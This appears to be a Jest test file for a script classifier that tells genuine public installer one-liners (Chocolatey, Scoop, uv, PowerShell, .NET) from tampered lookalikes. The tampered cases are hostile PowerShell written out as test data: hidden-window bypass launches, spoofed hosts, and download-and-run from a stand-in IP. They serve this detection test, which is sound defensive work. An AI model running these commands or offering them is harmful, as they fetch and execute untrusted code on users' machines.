import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { createScriptClassifier, type ScriptClassifier } from '../../../classifiers/script/classifier.ts';
import { publicInstaller } from '../../../classifiers/script/public-installer.ts';
import { loadModel } from '../../../platform/onnx/model.ts';
import { readGoldenCases } from '../golden-cases.ts';

const chocolatey = [
  'Set-ExecutionPolicy Bypass -Scope Process -Force; ',
  '[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; ',
  "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
].join('');

const documented: readonly (readonly [string, string])[] = [
  ['Chocolatey', chocolatey],
  ['Chocolatey', `${chocolatey}\r\nchoco install git 7zip -y\r\n`],
  [
    'Scoop',
    'Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression',
  ],
  ['uv', 'irm https://astral.sh/uv/install.ps1 | iex'],
  ['uv', 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"'],
  ['PowerShell', 'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"'],
  [
    '.NET',
    "&([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) -Channel LTS",
  ],
];

const borrowed: readonly string[] = [
  'powershell -w hidden -ep bypass -c "irm https://astral.sh/uv/install.ps1 | iex"',
  'powershell -ep bypass -c "irm https://astral.sh/uv/install.ps1 | iex; C:\\Users\\Public\\a.exe"',
  chocolatey.replace('community.chocolatey.org', 'community.chocolatey.org.example.net'),
  chocolatey.replace('https:', 'http:'),
  chocolatey.replace('/install.ps1', '/install.ps1?x=../a'),
  chocolatey.replace('community.chocolatey.org', 'community.chocolatey.org@203.0.113.7'),
  `${chocolatey}; iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')`,
  `${chocolatey}; Start-Process C:\\Users\\Public\\a.exe`,
  `${chocolatey}; choco install a --source http://203.0.113.7`,
  `${chocolatey} # ${'x'.repeat(2000)}`,
  'iex ((New-Object Net.WebClient).DownloadString("https://get.scoop.sh$env:x"))',
  'irm https://raw.githubusercontent.com/someone/Install/master/install.ps1 | iex',
];

describe('the documented start of a public installer', () => {
  let classifier: ScriptClassifier;
  beforeAll(async () => {
    classifier = await createScriptClassifier(loadModel);
  });
  afterAll(() => classifier.close());

  async function outcomeOf(text: string) {
    const [golden] = await readGoldenCases('script');
    if (golden === undefined) throw new Error('there are golden cases');
    const report = { ...golden.report, artifact: { kind: 'script' as const, text } };
    return (await classifier.score([{ report, evidence: 'content' }]))[0];
  }

  test.each(documented)('of %s says nothing', async (name, text) => {
    expect(publicInstaller(text)).toBe(name);
    expect(await outcomeOf(text)).toMatchObject({ outcome: 'abstained' });
  });

  test.each(borrowed)('lends its name to nothing else: %s', async (text) => {
    expect(publicInstaller(text)).toBeUndefined();
    expect(await outcomeOf(text)).toMatchObject({ outcome: 'score' });
  });
});
